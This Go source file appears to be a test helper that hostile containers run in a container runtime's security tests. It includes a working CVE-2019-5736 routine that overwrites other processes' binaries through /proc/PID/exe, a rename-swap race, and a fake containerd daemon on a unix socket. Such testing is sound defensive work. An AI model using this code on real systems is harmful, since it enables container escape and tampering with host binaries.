// Command testattacker is what hostile containers of the tests run: one static binary.
//
//	testattacker exe LOG         tries to write through the /proc/PID/exe of every process that it sees
//	testattacker swap A B        exchanges two paths, again and again
//	testattacker whoami          prints its ids and capabilities
//	testattacker connect SOCKET  connects to a unix socket
//
//	testattacker listen SOCKET NAME PROGRAM  listens, leaves the socket to a child that answers as NAME does, and
//	                                         executes PROGRAM with NAME as its argv[0], which inherits the socket
//	testattacker answer NAME                 is that child: its socket is descriptor 3
//	testattacker names NAME…                 listens on abstract sockets of these names
//
// With WAIT=1 it waits for ever, as su does for a password.
//
// Under the name of a daemon (containerd, containerd-shim-lifecycle-v2) it listens on
// $SOCKET, answers as containerd does, and writes every request to /asked, and to
// /owned that it was run.
package main

import (
	"context"
	"errors"
	"fmt"
	"log"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"

	version "github.com/containerd/containerd/api/services/version/v1"
	"golang.org/x/sys/unix"
	"google.golang.org/grpc"
	"google.golang.org/protobuf/types/known/emptypb"
)

func main() {
	if err := run(os.Args); err != nil {
		log.Fatal(err)
	}
}

func run(args []string) error {
	switch name := filepath.Base(args[0]); {
	case os.Getenv("WAIT") != "":
		return wait()
	case len(args) == 5 && args[1] == "listen":
		return become(args[2], args[3], args[4])
	case len(args) == 3 && args[1] == "answer":
		return answer(args[2])
	case len(args) > 2 && args[1] == "names":
		return abstract(args[2:])
	case name == "containerd" && slices.Contains(args, "config"):
		return note("/owned", strings.Join(args, " "))
	case strings.HasPrefix(name, "containerd"):
		return listen(os.Getenv("SOCKET"))
	case len(args) == 3 && args[1] == "exe":
		return overwrite(args[2])
	case len(args) == 4 && args[1] == "swap":
		return swap(args[2], args[3])
	case len(args) == 2 && args[1] == "whoami":
		return whoAmI()
	case len(args) == 3 && args[1] == "connect":
		conn, err := net.Dial("unix", args[2])
		if err == nil {
			err = conn.Close()
		}
		return err
	}
	return fmt.Errorf("unknown arguments %q", args)
}

// note adds a line to a file.
func note(path, text string) error {
	file, err := os.OpenFile(path, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o644)
	if err != nil {
		return err
	}
	defer file.Close()
	_, err = fmt.Fprintln(file, text)
	return err
}

// overwrite is CVE-2019-5736: a program that is opened by way of its process can be
// written when that has ended.
func overwrite(path string) error {
	own, err := os.Readlink("/proc/self/exe")
	if err != nil {
		return err
	}
	done := map[string]bool{own: true}
	if err := note(path, "looking"); err != nil {
		return err
	}
	for {
		links, _ := filepath.Glob("/proc/[0-9]*/exe") // the pattern is valid
		for _, link := range links {
			target, err := os.Readlink(link)
			if err != nil || done[target] || strings.HasSuffix(target, "/busybox") {
				continue
			}
			if err := overwriteOne(path, link, target); err != nil {
				continue // it has ended already: there is another try
			}
			done[target] = true
		}
	}
}

func overwriteOne(path, link, target string) error {
	file, err := os.Open(link)
	if err != nil {
		return err
	}
	defer file.Close()
	if now, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", file.Fd())); err != nil || now != target {
		return errors.New("another one by now")
	}
	outcome := ""
	for deadline := time.Now().Add(3 * time.Second); time.Now().Before(deadline); { // it is busy until its process has ended
		writable, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", file.Fd()), os.O_WRONLY, 0)
		if err == nil {
			_, err = writable.WriteAt([]byte("#!/bin/sh\n"), 0)
			_ = writable.Close()
		}
		if err == nil {
			return note(path, "WRITTEN "+target)
		}
		outcome = err.Error()
	}
	return note(path, "refused "+target+": "+outcome)
}

func swap(a, b string) error {
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
			return err
		}
	}
}

func whoAmI() error {
	status, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return err
	}
	for line := range strings.Lines(string(status)) {
		if name, _, _ := strings.Cut(line, ":"); slices.Contains([]string{"Uid", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs"}, name) {
			_, _ = fmt.Fprint(os.Stdout, line)
		}
	}
	return nil
}

type daemon struct {
	version.UnimplementedVersionServer
}

func (daemon) Version(context.Context, *emptypb.Empty) (*version.VersionResponse, error) {
	return &version.VersionResponse{Version: "2.4.0"}, nil
}

// counted reports each connection.
type counted struct{ net.Listener }

func (c counted) Accept() (net.Conn, error) {
	conn, err := c.Listener.Accept()
	if err == nil {
		err = note("/asked", "connected")
	}
	return conn, err
}

func listen(socket string) error {
	listener, err := net.Listen("unix", socket)
	if err != nil {
		return err
	}
	server := grpc.NewServer()
	version.RegisterVersionServer(server, daemon{})
	if err := note("/listening", socket); err != nil {
		return err
	}
	return server.Serve(counted{listener})
}
